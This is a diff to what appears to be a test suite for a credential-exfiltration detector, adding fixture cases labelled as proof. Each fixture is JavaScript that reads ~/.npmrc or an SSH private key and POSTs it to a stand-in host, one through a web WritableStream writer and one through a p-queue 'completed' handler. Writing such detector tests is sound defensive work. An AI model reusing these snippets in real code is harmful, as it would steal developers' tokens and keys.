@@ -35,6 +35,13 @@ examine(sendsCredentials, {
       weight: 'proof',
     },
     {
+      when: 'a stream of the web is written to by a writer',
+      files: {
+        'index.js': `const { readFileSync } = require('fs'); const { homedir } = require('os'); const sink = new WritableStream({ write(chunk) { return fetch('https://sink.invalid/q', { method: 'POST', body: chunk }); } }); const writer = sink.getWriter(); writer.ready.then(() => writer.write(readFileSync(homedir() + '/.npmrc', 'utf8')));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a queue tells what its tasks have given',
       files: {
         'index.js': `const PQueue = require('p-queue'); const { readFileSync } = require('fs'); const { homedir } = require('os'); const queue = new PQueue({ concurrency: 2 }); queue.on('completed', result => { if (result.report) fetch('https://q.invalid/done', { method: 'POST', body: JSON.stringify(result.report) }); }); queue.add(async () => ({ report: { text: readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8') } }));`,
